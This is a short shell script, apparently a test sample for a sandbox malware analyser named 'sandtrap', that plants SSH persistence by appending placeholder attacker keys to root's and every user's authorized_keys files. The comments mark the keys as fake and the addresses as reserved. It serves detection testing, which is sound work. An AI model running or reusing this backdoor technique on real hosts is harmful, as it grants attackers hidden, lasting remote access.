#!/bin/sh
# Persistence through ssh: adds an attacker's public key to root's authorized_keys.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
mkdir -p /root/.ssh && chmod 700 /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeFakeFakeFakeFakeFakeFakeFakeFakeFake0 backdoor@203.0.113.66' >> /root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
for h in /home/*; do
  mkdir -p "$h/.ssh"
  echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQFakeKeyForSandtrapTestsOnly= ops@198.51.100.66' >> "$h/.ssh/authorized_keys"
done
wc -l /root/.ssh/authorized_keys
